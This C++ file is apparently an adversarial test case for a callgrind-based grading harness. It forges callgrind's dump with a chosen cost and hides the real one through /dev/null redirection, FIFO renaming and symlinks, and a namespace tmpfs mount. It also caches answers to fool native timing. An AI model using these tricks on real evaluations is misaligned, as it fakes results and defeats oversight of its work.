// ATTACK (adversary 3, sum_forge.cpp, compacted): forge callgrind's dump.  The program writes a dump
// of its own (its pid, termination trigger, a total it chooses) into callgrind's dump channel, then
// tries to take callgrind's real dump away: an inherited write-only FIFO descriptor (dup2 /dev/null
// over it), or the FIFO at its fixed path (unlink or rename it, a symlink to /dev/null in its place,
// a user + mount namespace with a tmpfs over its directory).  It prints the honest sum, caching it for
// the native run (a write-only FIFO at fd >= 3 or a FIFO at the fixed path says it is being counted).
#include <sched.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <fcntl.h>
#include <unistd.h>
#include <cstdio>
#include <cstring>

// The counted run stores its answer in cache.<k> (k: the first free one); the native run of the same
// test (same order) prints the first it finds and removes it, so its CPU time, hence the plausibility
// floor on native runs, stays near zero.
static void store(const char* dir, long long s) {
  char name[96]; for (int k = 0;; k++) { snprintf(name, sizeof name, "%s/cache.%d", dir, k); if (access(name, F_OK) != 0) break; }
  if (FILE* f = fopen(name, "w")) { fprintf(f, "%lld\n", s); fclose(f); }
}
static bool replay(const char* dir) {
  char name[96], out[64];
  for (int k = 0; k < 100; k++) {
    snprintf(name, sizeof name, "%s/cache.%d", dir, k); int fd = open(name, O_RDONLY); if (fd < 0) continue;
    int n = read(fd, out, sizeof out); close(fd); unlink(name); if (n > 0) { fwrite(out, 1, n, stdout); return true; }
  }
  return false;
}

static long long honest() {
  long long n, s = 0, v; if (scanf("%lld", &n) != 1) return 0;
  for (long long i = 0; i < n && scanf("%lld", &v) == 1; i++) s += v;
  return s;
}

static bool counted() {
  for (int fd = 3; fd < 256; fd++) {
    struct stat st; int fl = fcntl(fd, F_GETFL);
    if (fstat(fd, &st) == 0 && S_ISFIFO(st.st_mode) && fl >= 0 && (fl & O_ACCMODE) == O_WRONLY) return true;
  }
  return access("/run/ergon-pipes/dump", F_OK) == 0 || access("/tmp/ergon-pipes/dump", F_OK) == 0;
}

int main() {
  if (!counted()) { if (!replay(".")) printf("%lld\n", honest()); return 0; }
  long long s = honest(); store(".", s);
  printf("%lld\n", s); fflush(stdout);
  char dump[512];
  int m = snprintf(dump, sizeof dump,
      "# callgrind format\nversion: 1\ncreator: callgrind-3.19.0\npid: %d\ncmd:  ./prog\npart: 1\n\n\n"
      "desc: I1 cache: \ndesc: D1 cache: \ndesc: LL cache: \n\ndesc: Timerange: Basic block 0 - 20000\n"
      "desc: Trigger: Program termination\n\npositions: line\nevents: Ir\nsummary: 100000\n\n\ntotals: 100000\n",
      (int)getpid());
  for (int fd = 3; fd < 256; fd++) {                     // the old channel: /proc/self/fd/N
    struct stat st; if (fstat(fd, &st) != 0 || !S_ISFIFO(st.st_mode)) continue;
    int fl = fcntl(fd, F_GETFL); if (fl < 0 || (fl & O_ACCMODE) != O_WRONLY) continue;
    write(fd, dump, m); int null = open("/dev/null", O_WRONLY); dup2(null, fd); break;
  }
  const char* dirs[] = {"/run/ergon-pipes", "/tmp/ergon-pipes"};
  for (const char* dir : dirs) {                          // the FIFO at its fixed path
    char path[64], moved[64]; snprintf(path, sizeof path, "%s/dump", dir); snprintf(moved, sizeof moved, "%s/x", dir);
    int fd = open(path, O_WRONLY | O_NONBLOCK); if (fd < 0) continue;
    write(fd, dump, m);
    if (rename(path, moved) == 0 || unlink(path) == 0) symlink("/dev/null", path);
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0) mount("none", dir, "tmpfs", 0, 0);
  }
}
